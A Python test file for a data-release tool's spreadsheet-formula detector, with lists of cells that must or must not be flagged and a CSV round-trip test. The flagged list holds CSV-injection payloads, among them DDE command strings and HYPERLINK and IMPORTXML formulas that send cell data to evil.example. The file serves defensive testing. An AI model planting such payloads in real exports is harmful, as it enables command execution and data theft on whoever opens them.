"""What a spreadsheet would carry out is found; what only looks a little like it is let be."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import duckdb
import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sector_data.release.formulas import formulas_in
from sector_data.sources.tables import Table
from sector_data.sources.writing import write_csv

HARMFUL = (
    "=cmd|'/C calc'!A0",
    "=1+1",
    "=A1",
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-1+1+cmd|'/C calc'!A0",
    '-HYPERLINK("x")',
    " =cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    '"=1+1',
    "＝1+1",
    "+'Sheet 2'!A1",
    "-2+3\n+cmd|'/C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
    "=DDE(1)",
    "+A1",
    "-A1",
    "@A1",
    "＋A1",
    "－A1",
    "= A1",
    "+$B$2",
    "-1+A1*2",
    '-"x"&B2',
    "+(A1:A9)",
    "-A1 + 5 %",
    "@SUM(A1)",
    "＠SUM(A1)",
    "=SUM （A1)",
    "-HYPERLINK ('http://evil.example')",
    "=cmd|'/C calc'!A0",
    "\n=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "“=1+1",
    "'=1+1'",
    "`=1+1",
    " \t'\" =1+1",
    "x;=HYPERLINK(A1)",
    "x\t=A1",
    "x\r\n=A1",
    "x; +cmd|'/C calc'!A0",
    "a note\n@WEBSERVICE(A1)",
    "== cmd|'/C calc'!A0",
)
HARMLESS = (
    "",
    "-",
    "=",
    "==",
    "=> see note",
    "= 5 mg",
    "-12.5",
    "+1e-7",
    "-INF",
    "+49 30 123456",
    "@name",
    "- headache (mild)",
    "-- none --",
    "+ add (later)",
    "a=b",
    "x@y.example",
    "1=cmd|'/C calc'!A0",
    "-3 to -5 (range)",
    "+/- 3",
    "−5",
    "@home (since 2020)",
    "- no pain | no fever",
    "+49 (30) 123-456",
    "+49-30-123456",
    "+1 617 555 0123",
    "+44/20/7946 0018",
    "+81 3-1234-5678",
    "-5 %",
    "-1,234.50",
    "-12.05.2024",
    "+1+1",
    "- A1 and A2 of the spine",
    "-T2 and T3",
    "- CT (chest)",
    "-x",
    "- call (555) 0123",
    "== heading ==",
    "a;b=c",
    "x; -CO2",
    "a list:\n- pain(s)\n- A1",
    "BMI\n= 5 mg",
    "x\n=> see note",
    "'s-Hertogenbosch",
    "(-) E. coli",
)


def texts(*values: str | None) -> Table:
    return Table("t", pa.table({"a": pa.array(values, pa.string())}))


@pytest.mark.parametrize("cell", HARMFUL, ids=repr)
def test_formulas_are_found(cell: str) -> None:
    assert formulas_in(texts("x", None, cell)) == {"a": 1}


@pytest.mark.parametrize("cell", HARMLESS, ids=repr)
def test_other_cells_are_let_be(cell: str) -> None:
    assert formulas_in(texts("x", None, cell)) == {}


def test_a_name_of_a_column_is_a_cell_too() -> None:
    assert formulas_in(Table("t", pa.table({"=1+1": [1]}))) == {"=1+1": 1}


@given(
    beginning=st.text(" \t\r\n'\"\u00a0\u3000\u200b\ufeff", max_size=5),
    sign=st.sampled_from("=+-@＝＋－＠"),
    column=st.text("ABCXYZabc", min_size=1, max_size=3),
    row=st.integers(1, 1_048_576),
    absolute=st.tuples(st.sampled_from(("", "$")), st.sampled_from(("", "$"))),
)
def test_a_cell_of_the_sheet_is_found_however_it_is_led_in(
    beginning: str, sign: str, column: str, row: int, absolute: tuple[str, str]
) -> None:
    cell = f"{beginning}{sign}{absolute[0]}{column}{absolute[1]}{row}"
    assert formulas_in(
        texts(cell, f"{cell}+1", f"{beginning}{sign}2*{cell[len(beginning) + 1 :]}")
    ) == {"a": 3}


@given(
    numbers=st.lists(st.integers(0, 10**6), min_size=1, max_size=5), join=st.sampled_from(" -/.")
)
def test_telephone_numbers_are_no_formulas(numbers: list[int], join: str) -> None:
    assert formulas_in(texts("+" + join.join(map(str, numbers)))) == {}


@given(values=st.lists(st.integers() | st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_are_no_formulas(values: list[float]) -> None:
    assert formulas_in(texts(*map(str, values), *map("{:+}".format, values))) == {}


def test_columns_of_other_types_are_not_looked_at() -> None:
    table = pa.table({"n": [-1], "f": [-0.5], "d": [date(2020, 1, 1)], "b": [True]})
    assert formulas_in(Table("t", table)) == {}


def test_cells_are_written_as_they_are_and_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    """No apostrophe, no other character: whoever reads the file gets what was released."""
    cells = [*HARMFUL, *HARMLESS]
    numbers = [-(10**place) for place in range(1, len(cells) + 1) if place < 15]
    numbers += [-1] * (len(cells) - len(numbers))
    path = tmp_path / "t.csv"
    shares = [number / 4 for number in numbers]
    write_csv(Table("t", pa.table({"a": cells, "n": numbers, "f": shares})), path)

    frame = pd.read_csv(path, dtype={"a": "string"}, keep_default_na=False)
    assert frame["a"].tolist() == cells
    assert frame["n"].tolist() == numbers
    assert frame["f"].tolist() == shares
    assert frame["n"].dtype == "int64"
    query = f"SELECT * FROM read_csv('{path}', types={{'a': 'VARCHAR'}}, parallel=false)"
    rows = duckdb.sql(query).fetchall()
    # DuckDB reads "" as a missing value, as most do.
    assert [row[0] or "" for row in rows] == cells
    assert [row[1] for row in rows] == numbers
    assert [row[2] for row in rows] == shares
